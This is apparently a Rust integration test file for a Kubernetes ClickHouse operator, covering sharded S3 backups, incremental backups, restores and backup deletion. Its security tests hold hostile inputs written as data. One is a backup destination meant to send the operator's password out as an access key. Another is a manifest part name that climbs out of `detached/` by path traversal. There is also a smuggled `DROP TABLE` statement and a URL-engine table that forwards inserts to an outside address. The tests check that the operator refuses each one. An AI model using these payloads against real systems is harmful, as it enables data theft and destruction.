//! What backups hold and what restores write: each shard on its backup replica, incremental
//! backups on each other, a restore from a bucket that lies, a deleted backup's data.

use super::*;

/// S0-04, decision 26: a 2-shard × 2-replica cluster is backed up to a real S3 server, each
/// shard on its backup replica only (its FREEZE statements are in that replica's query log and
/// in no other's); the bucket holds the manifest, written last, and each shard's parts. A second,
/// incremental backup after a few more rows (a new partition: parts of the old ones do not
/// merge with it) reuses what the first uploaded and uploads a small fraction of it. A
/// destination with wrong credentials, a missing bucket or an endpoint that does not answer
/// ends `Failed` with the cause, and nothing is written as complete. Then the
/// table is dropped and a ClickHouseRestore brings every row back on every replica; a second
/// restore into the now non-empty table is refused.
#[tokio::test]
async fn backups_run_on_each_shards_backup_replica_and_build_on_each_other() {
    let (server, client, ns, op) = setup("backup", &[]).await;
    credentials(&client, &ns, "bad-creds", ACCESS, "not-the-secret").await;
    let unlabelled: Secret = serde_json::from_value(json!({
        "metadata": {"name": "unlabelled"},
        "stringData": {"accessKeyId": ACCESS, "secretAccessKey": SECRET},
    }))
    .unwrap();
    Api::<Secret>::namespaced(client.clone(), &ns)
        .create(&PostParams::default(), &unlabelled)
        .await
        .unwrap();
    let at = |endpoint: &str, bucket: &str, secret: &str| json!({"endpoint": endpoint, "insecure": true, "bucket": bucket, "secretName": secret});
    // nothing listens there (an address outside this machine would meet its proxy)
    let unreachable = server.for_pods.replace(&format!(":{S3_PORT}"), ":1");
    let elsewhere = [
        (
            "wrong-credentials",
            at(&server.for_pods, BUCKET, "bad-creds"),
            "refused the credentials",
        ),
        (
            "no-bucket",
            at(&server.for_pods, "no-such-bucket", "s3-creds"),
            "does not exist",
        ),
        (
            "unreachable",
            at(&unreachable, BUCKET, "s3-creds"),
            "cannot reach",
        ),
        (
            "no-secret",
            at(&server.for_pods, BUCKET, "missing"),
            "does not exist in namespace",
        ),
        (
            "unlabelled",
            at(&server.for_pods, BUCKET, "unlabelled"),
            "does not carry the label clickhouse.com/s3-credentials",
        ),
    ];
    create_cluster(
        &client,
        &ns,
        "c1",
        json!({"shards": 2, "replicas": 2, "keeper": {"replicas": 1}, "storage": {"size": "1Gi"},
               "backup": {"destination": at(&server.for_pods, BUCKET, "s3-creds"),
                          "allowedDestinations": elsewhere.iter().map(|(_, d, _)| d.clone()).collect::<Vec<_>>()}}),
    )
    .await;
    let ready = wait_ready(&client, &ns, "c1", 1).await;
    let generated = operator_secrets(&client, &ns, "c1").await;
    watch_for_secrets(&generated.iter().map(String::as_str).collect::<Vec<_>>());
    let map = ready.status.unwrap().replica_state_map;
    let backup_replicas: BTreeMap<i32, String> = map
        .iter()
        .filter(|(_, r)| r.is_backup_pod)
        .map(|(n, r)| (r.shard.get(), n.to_string()))
        .collect();
    let any = map.keys().next().unwrap().clone();
    let ch = sql_client(&client, &ns, "c1", &format!("{any}-0")).await;
    exec(&ch, "CREATE TABLE IF NOT EXISTS default.events ON CLUSTER c1 (batch UInt64, id UInt64) ENGINE = ReplicatedMergeTree('/clickhouse/tables/{shard}/default/events', '{replica}') PARTITION BY batch ORDER BY (batch, id)").await;
    exec(&ch, "CREATE TABLE IF NOT EXISTS default.events_all ON CLUSTER c1 AS default.events ENGINE = Distributed(c1, default, events, batch)").await;
    let sync = QueryOptions::new().setting("insert_distributed_sync", 1);
    for batch in 0..20 {
        ch.exec(&format!("INSERT INTO default.events_all SELECT {batch}, number FROM system.numbers LIMIT 20000"), &sync).await.unwrap();
    }
    tokio::time::sleep(Duration::from_secs(3)).await;

    start_backup(&client, &ns, "full", json!({"clusterName": "c1"})).await;
    let full = wait_backup_done(&client, &ns, "full").await;
    let st = full.status.clone().unwrap();
    assert_eq!(st.state, BackupState::Succeeded, "{:?}", st.message);
    let ran_on: BTreeMap<i32, String> = st
        .shards
        .iter()
        .map(|s| (s.shard, s.replica.clone()))
        .collect();
    assert_eq!(ran_on, backup_replicas, "each shard on its backup replica");
    println!(
        "full backup: {} bytes uploaded, {} reused",
        st.bytes_uploaded, st.bytes_reused
    );
    assert!(st.bytes_uploaded > 0 && st.bytes_reused == 0);
    for replica in map.keys() {
        let c = sql_client(&client, &ns, "c1", &format!("{replica}-0")).await;
        exec(&c, "SYSTEM FLUSH LOGS").await;
        // the table exists once a first query was logged there
        let logged = query(&c, "SELECT count() AS v FROM system.tables WHERE database = 'system' AND name = 'query_log'").await;
        let n: u64 = if logged[0] == "0" {
            0
        } else {
            let frozen = query(&c, "SELECT count() AS v FROM system.query_log WHERE type = 2 AND query LIKE 'ALTER TABLE % FREEZE'").await;
            frozen[0].parse().unwrap()
        };
        let is_backup = backup_replicas.values().any(|b| b == replica);
        assert_eq!(n > 0, is_backup, "{replica}: {n} FREEZE statements");
    }
    let b = bucket(&format!("{ns}/c1"));
    assert!(
        b.get(&manifest::manifest_key("full"), u64::MAX)
            .await
            .unwrap()
            .is_some()
    );
    for shard in [0, 1] {
        let m = b
            .get(&manifest::shard_manifest_key("full", shard), u64::MAX)
            .await
            .unwrap()
            .expect("the shard's manifest");
        let m: manifest::ShardManifest = serde_json::from_slice(&m).unwrap();
        let events = m.tables.iter().find(|t| t.name == "events").unwrap();
        assert!(!events.parts.is_empty(), "shard {shard} has parts");
        let objects = b.list(&format!("{}/", events.parts[0].key)).await.unwrap();
        assert!(
            objects.iter().any(|o| o.ends_with("checksums.txt")),
            "{objects:?}"
        );
    }

    ch.exec(
        "INSERT INTO default.events_all SELECT 100, number FROM system.numbers LIMIT 100",
        &sync,
    )
    .await
    .unwrap();
    tokio::time::sleep(Duration::from_secs(2)).await;
    start_backup(
        &client,
        &ns,
        "incr",
        json!({"clusterName": "c1", "incremental": true}),
    )
    .await;
    let incr = wait_backup_done(&client, &ns, "incr").await;
    let si = incr.status.clone().unwrap();
    assert_eq!(si.state, BackupState::Succeeded, "{:?}", si.message);
    assert_eq!(si.base.as_deref(), Some("full"));
    println!(
        "incremental backup: {} bytes uploaded, {} reused",
        si.bytes_uploaded, si.bytes_reused
    );
    assert!(si.bytes_reused >= st.bytes_uploaded / 2, "{si:?}");
    assert!(si.bytes_uploaded * 5 < st.bytes_uploaded, "{si:?}");

    // each cause of failure by its own destination, which the cluster allows; and two the
    // cluster does not name: the operator's password as an access key sent to a place of the
    // backup's choosing, and the cluster's bucket under another folder
    let mut cases = elsewhere.to_vec();
    let not_named = "is neither cluster c1's spec.backup.destination nor one of its spec.backup.allowedDestinations";
    cases.push((
        "exfiltrate",
        json!({"endpoint": server.for_pods, "insecure": true, "bucket": BUCKET,
               "secretName": "c1-operator", "accessKeyIdKey": "password"}),
        not_named,
    ));
    cases.push((
        "other-folder",
        json!({"endpoint": server.for_pods, "insecure": true, "bucket": BUCKET,
               "secretName": "s3-creds", "prefix": "other-team/c9"}),
        not_named,
    ));
    for (name, destination, says) in cases {
        start_backup(
            &client,
            &ns,
            name,
            json!({"clusterName": "c1", "destination": destination}),
        )
        .await;
        let b = wait_backup_done(&client, &ns, name).await;
        let s = b.status.unwrap();
        let message = s.message.unwrap_or_default();
        println!("{name}: {message}");
        assert_eq!(s.state, BackupState::Failed, "{name}");
        assert!(message.contains(says), "{name}: {message}");
        assert!(s.manifest.is_none());
    }
    assert!(
        bucket(&format!("{ns}/c1"))
            .get(&manifest::manifest_key("wrong-credentials"), u64::MAX)
            .await
            .unwrap()
            .is_none()
    );

    // Restore: the table dropped on every replica, then restored from the incremental backup
    // (which references the full one's parts): every row is back on both replicas of each
    // shard, and the Distributed count equals the one before.
    let before = rows_per_replica(&client, &ns).await;
    let total_before = query(&ch, "SELECT count() AS v FROM default.events_all").await;
    exec(&ch, "DROP TABLE default.events ON CLUSTER c1").await;
    start_restore(
        &client,
        &ns,
        "from-incr",
        json!({"clusterName": "c1", "backupName": "incr"}),
    )
    .await;
    let r = wait_restore_done(&client, &ns, "from-incr").await;
    let rs = r.status.unwrap();
    assert_eq!(rs.state, RestoreState::Succeeded, "{:?}", rs.message);
    println!("restore: {} bytes downloaded", rs.bytes_downloaded);
    let expected = before.clone();
    let restored = wait_for(
        Duration::from_secs(120),
        "every replica to hold its rows again",
        || {
            let (client, ns, expected) = (client.clone(), ns.clone(), expected.clone());
            async move {
                let now = rows_per_replica(&client, &ns).await;
                (now == expected).then_some(now)
            }
        },
    )
    .await;
    println!("rows per replica before and after: {restored:?}");
    assert_eq!(
        query(&ch, "SELECT count() AS v FROM default.events_all").await,
        total_before
    );
    // a second restore into tables that hold rows is refused, naming the table
    start_restore(
        &client,
        &ns,
        "again",
        json!({"clusterName": "c1", "backupName": "incr"}),
    )
    .await;
    let again = wait_restore_done(&client, &ns, "again")
        .await
        .status
        .unwrap();
    let message = again.message.unwrap_or_default();
    assert_eq!(again.state, RestoreState::Failed);
    assert!(
        message.contains("`default`.`events` already holds"),
        "{message}"
    );
    assert_eq!(
        rows_per_replica(&client, &ns).await,
        before,
        "nothing was added"
    );
    restore_from_a_lying_bucket_changes_nothing(&client, &ns, &map, &before).await;
    a_restored_table_never_joins_another_tables_replication_group(&client, &ns, &map, &before)
        .await;
    deleting_a_backup_removes_what_no_other_backup_references(&client, &ns).await;
    let _ = full.name_any();
    let mut secrets = vec![
        ACCESS.to_string(),
        SECRET.to_string(),
        "not-the-secret".into(),
    ];
    secrets.extend(operator_secrets(&client, &ns, "c1").await);
    assert_no_secret_leaked(&client, &ns, &secrets, true).await;
    finish(&client, &ns, op).await;
}

/// A snapshot of what a restore could change on every replica: its databases, tables and rows,
/// and on each backup replica the files under `metadata/` and the tables' `detached/` folders.
async fn what_a_restore_could_change(
    client: &Client,
    ns: &str,
    map: &BTreeMap<clickhouse_operator::api::ReplicaName, clickhouse_operator::api::ReplicaStatus>,
) -> BTreeMap<String, Vec<String>> {
    let mut out = BTreeMap::new();
    for (replica, r) in map {
        let ch = sql_client(client, ns, "c1", &format!("{replica}-0")).await;
        let mut seen = query(&ch, "SELECT arrayStringConcat(groupArray(concat(database, '.', name, ':', engine)), ',') AS v FROM (SELECT database, name, engine FROM system.tables WHERE database != 'system' ORDER BY database, name)").await;
        seen.extend(query(&ch, "SELECT arrayStringConcat(groupArray(name), ',') AS v FROM (SELECT name FROM system.databases ORDER BY name)").await);
        seen.extend(query(&ch, "SELECT toString(count()) AS v FROM default.events").await);
        if r.is_backup_pod {
            let volume = volume_path(
                client,
                ns,
                &clickhouse_operator::model::names::data_pvc(replica),
            )
            .await;
            for dir in ["metadata", "data/default/events/detached"] {
                let mut files: Vec<String> = walk(&volume.join(dir));
                files.sort();
                seen.push(format!("{dir}: {}", files.join(",")));
            }
        }
        out.insert(replica.to_string(), seen);
    }
    out
}

/// Decision 29: whoever can write to the bucket writes manifests for a backup no
/// ClickHouseBackup here took, and a ClickHouseRestore names it. Shard 0's part would be written
/// over the server's `metadata/` folder (its part name climbs out of `detached/`), with the file
/// in the bucket where the manifest says; shard 1's database "statement" drops the table, and
/// it lists a table that would send every insert to another server. The restore fails with the
/// rule named, before anything is written: every replica keeps its databases, tables and rows,
/// and no file appears on the backup replicas' volumes.
async fn restore_from_a_lying_bucket_changes_nothing(
    client: &Client,
    ns: &str,
    map: &BTreeMap<clickhouse_operator::api::ReplicaName, clickhouse_operator::api::ReplicaStatus>,
    rows: &BTreeMap<String, u64>,
) {
    let before = what_a_restore_could_change(client, ns, map).await;
    let b = bucket(&format!("{ns}/c1"));
    let put = |key: String, value: Vec<u8>| {
        let b = b.clone();
        async move { b.put(&key, value).await.unwrap() }
    };
    let events = "CREATE TABLE default.events ( batch UInt64,  id UInt64) ENGINE = ReplicatedMergeTree('/clickhouse/tables/{shard}/default/events', '{replica}') PARTITION BY batch ORDER BY (batch, id) SETTINGS index_granularity = 8192";
    let climbing = "../../../../metadata/default";
    let key = format!("backups/crafted/shard-0/{climbing}");
    put(
        format!("{key}/evil.sql"),
        b"ATTACH TABLE evil (x UInt8) ENGINE = Log".to_vec(),
    )
    .await;
    let table =
        |name: &str, engine: &str, create: &str, parts: Vec<manifest::Part>| manifest::Table {
            database: "default".into(),
            name: name.into(),
            engine: engine.into(),
            create: create.into(),
            parts,
        };
    let shards = [
        manifest::ShardManifest {
            format: manifest::FORMAT,
            backup: "crafted".into(),
            shard: 0,
            databases: BTreeMap::from([(
                "default".into(),
                "CREATE DATABASE IF NOT EXISTS `default`".into(),
            )]),
            tables: vec![table(
                "events",
                "ReplicatedMergeTree",
                events,
                vec![manifest::Part {
                    name: climbing.into(),
                    checksum: "0123456789abcdef".into(),
                    key,
                    files: BTreeMap::from([("evil.sql".into(), 40), ("checksums.txt".into(), 1)]),
                }],
            )],
            ..manifest::ShardManifest::default()
        },
        manifest::ShardManifest {
            format: manifest::FORMAT,
            backup: "crafted".into(),
            shard: 1,
            databases: BTreeMap::from([(
                "default".into(),
                "CREATE DATABASE IF NOT EXISTS `default`; DROP TABLE default.events".into(),
            )]),
            tables: vec![table(
                "exfil",
                "URL",
                "CREATE TABLE default.exfil (x String) ENGINE = URL('http://198.51.100.1/', CSV)",
                vec![],
            )],
            ..manifest::ShardManifest::default()
        },
    ];
    for m in &shards {
        put(
            manifest::shard_manifest_key("crafted", m.shard),
            serde_json::to_vec(m).unwrap(),
        )
        .await;
    }
    let top = manifest::Manifest {
        format: manifest::FORMAT,
        backup: "crafted".into(),
        namespace: ns.into(),
        cluster: "c1".into(),
        shards: vec![0, 1],
        base: None,
        completed: "2026-12-03T00:00:00Z".into(),
    };
    put(
        manifest::manifest_key("crafted"),
        serde_json::to_vec(&top).unwrap(),
    )
    .await;
    start_restore(
        client,
        ns,
        "crafted",
        json!({"clusterName": "c1", "backupName": "crafted"}),
    )
    .await;
    let r = wait_restore_done(client, ns, "crafted")
        .await
        .status
        .unwrap();
    let message = r.message.unwrap_or_default();
    println!("restore from a lying bucket: {:?}: {message}", r.state);
    assert_eq!(r.state, RestoreState::Failed, "{message}");
    assert!(
        message.contains("breaks a rule, nothing was restored"),
        "{message}"
    );
    assert!(
        message.contains("is not a part name") || message.contains("more than one statement"),
        "the rule is named: {message}"
    );
    // both shards' agents have ended (the restore removes its Jobs once it failed)
    let pods: Api<Pod> = Api::namespaced(client.clone(), ns);
    let lp = ListParams::default().labels(&format!("{BACKUP_LABEL}=crafted"));
    wait_for(
        Duration::from_secs(60),
        "the crafted restore's agents gone",
        || {
            let (pods, lp) = (pods.clone(), lp.clone());
            async move { pods.list(&lp).await.ok()?.items.is_empty().then_some(()) }
        },
    )
    .await;
    assert_eq!(what_a_restore_could_change(client, ns, map).await, before);
    assert_eq!(&rows_per_replica(client, ns).await, rows);
}

/// Decision 61 (review H-1, 5): a crafted backup lists a new table `default.joined` with the
/// Keeper path of its shard's `default.events` and a replica name of its own, which would make
/// it one more replica of that replication group (it would fetch every part of `events`, and a
/// partition dropped from it would be dropped from `events`). The restore gives it the cluster's
/// own path for its name instead: on every replica `joined` is empty in a group of its own
/// (`/clickhouse/tables/<shard>/default/joined`, the shard's two replicas), and each shard's
/// `events` still has its two replicas and every row.
async fn a_restored_table_never_joins_another_tables_replication_group(
    client: &Client,
    ns: &str,
    map: &BTreeMap<clickhouse_operator::api::ReplicaName, clickhouse_operator::api::ReplicaStatus>,
    rows: &BTreeMap<String, u64>,
) {
    let b = bucket(&format!("{ns}/c1"));
    for shard in [0, 1] {
        let joined = format!(
            "CREATE TABLE default.joined (batch UInt64, id UInt64) ENGINE = ReplicatedMergeTree('/clickhouse/tables/{shard}/default/events', '{{replica}}-joined') PARTITION BY batch ORDER BY (batch, id)"
        );
        let m = manifest::ShardManifest {
            format: manifest::FORMAT,
            backup: "joining".into(),
            shard,
            databases: BTreeMap::from([(
                "default".into(),
                "CREATE DATABASE IF NOT EXISTS `default`".into(),
            )]),
            tables: vec![manifest::Table {
                database: "default".into(),
                name: "joined".into(),
                engine: "ReplicatedMergeTree".into(),
                create: joined,
                parts: vec![],
            }],
            ..manifest::ShardManifest::default()
        };
        b.put(
            &manifest::shard_manifest_key("joining", shard),
            serde_json::to_vec(&m).unwrap(),
        )
        .await
        .unwrap();
    }
    let top = manifest::Manifest {
        format: manifest::FORMAT,
        backup: "joining".into(),
        namespace: ns.into(),
        cluster: "c1".into(),
        shards: vec![0, 1],
        base: None,
        completed: "2026-12-03T00:00:00Z".into(),
    };
    b.put(
        &manifest::manifest_key("joining"),
        serde_json::to_vec(&top).unwrap(),
    )
    .await
    .unwrap();
    start_restore(
        client,
        ns,
        "joining",
        json!({"clusterName": "c1", "backupName": "joining"}),
    )
    .await;
    let r = wait_restore_done(client, ns, "joining")
        .await
        .status
        .unwrap();
    assert_eq!(r.state, RestoreState::Succeeded, "{:?}", r.message);
    for (replica, status) in map {
        let ch = sql_client(client, ns, "c1", &format!("{replica}-0")).await;
        let groups = query(
            &ch,
            "SELECT concat(table, ' ', zookeeper_path, ' ', toString(total_replicas)) AS v FROM system.replicas WHERE database = 'default' ORDER BY table",
        )
        .await;
        let shard = status.shard.get();
        println!("{replica}: {groups:?}");
        assert_eq!(
            groups,
            [
                format!("events /clickhouse/tables/{shard}/default/events 2"),
                format!("joined /clickhouse/tables/{shard}/default/joined 2"),
            ],
            "{replica}"
        );
        assert_eq!(
            query(&ch, "SELECT toString(count()) AS v FROM default.joined").await,
            ["0"],
            "{replica}"
        );
    }
    let any = map.keys().next().unwrap();
    let ch = sql_client(client, ns, "c1", &format!("{any}-0")).await;
    exec(&ch, "DROP TABLE default.joined ON CLUSTER c1").await;
    assert_eq!(&rows_per_replica(client, ns).await, rows);
}

/// Decision 26: `deletionPolicy: Delete` on the full backup, which the incremental one builds on,
/// then the full backup deleted: its manifests and every object no other backup references are
/// gone from the bucket before the resource goes, the parts the incremental backup references
/// stay (it can still be restored), and an event says what was removed.
async fn deleting_a_backup_removes_what_no_other_backup_references(client: &Client, ns: &str) {
    let b = bucket(&format!("{ns}/c1"));
    let before: Vec<String> = b.list("backups/full/").await.unwrap();
    let incr_before: Vec<String> = b.list("backups/incr/").await.unwrap();
    let mut referenced: Vec<String> = Vec::new();
    for shard in [0, 1] {
        let m = b
            .get(&manifest::shard_manifest_key("incr", shard), u64::MAX)
            .await
            .unwrap()
            .unwrap();
        let m: manifest::ShardManifest = serde_json::from_slice(&m).unwrap();
        referenced.extend(m.keys().map(|k| format!("{k}/")));
    }
    let api: Api<ClickHouseBackup> = Api::namespaced(client.clone(), ns);
    let refused = api
        .patch(
            "full",
            &kube::api::PatchParams::default(),
            &kube::api::Patch::Merge(json!({"spec": {"incremental": true}})),
        )
        .await
        .expect_err("a backup's spec does not change");
    assert!(
        refused.to_string().contains("but for its deletionPolicy"),
        "{refused}"
    );
    api.patch(
        "full",
        &kube::api::PatchParams::default(),
        &kube::api::Patch::Merge(json!({"spec": {"deletionPolicy": "Delete"}})),
    )
    .await
    .unwrap();
    wait_for(
        Duration::from_secs(30),
        "the data finalizer on backup full",
        || {
            let api = api.clone();
            async move {
                let b = api.get("full").await.ok()?;
                b.finalizers()
                    .iter()
                    .any(|f| f == "clickhouse.com/backup-data")
                    .then_some(())
            }
        },
    )
    .await;
    api.delete("full", &DeleteParams::default()).await.unwrap();
    wait_for(Duration::from_secs(120), "backup full gone", || {
        let api = api.clone();
        async move { api.get_opt("full").await.ok()?.is_none().then_some(()) }
    })
    .await;
    let after: Vec<String> = b.list("backups/full/").await.unwrap();
    let kept_expected: Vec<&String> = before
        .iter()
        .filter(|o| referenced.iter().any(|k| o.starts_with(k.as_str())))
        .collect();
    println!(
        "backup full deleted: {} objects before, {} after, {} referenced by incr",
        before.len(),
        after.len(),
        kept_expected.len()
    );
    assert!(!kept_expected.is_empty(), "incr references parts of full");
    assert_eq!(
        after.iter().collect::<Vec<_>>(),
        kept_expected,
        "exactly the referenced parts stay"
    );
    assert!(
        after.len() < before.len(),
        "the manifests at least are gone"
    );
    assert_eq!(
        b.list("backups/incr/").await.unwrap(),
        incr_before,
        "incr untouched"
    );
    let events: Vec<String> =
        Api::<k8s_openapi::api::events::v1::Event>::namespaced(client.clone(), ns)
            .list(&ListParams::default())
            .await
            .unwrap()
            .items
            .into_iter()
            .filter(|e| e.reason.as_deref() == Some("BackupDataRemoved"))
            .filter_map(|e| e.note)
            .collect();
    assert!(
        events
            .iter()
            .any(|n| n.contains("kept, referenced by other backups")),
        "{events:?}"
    );
}
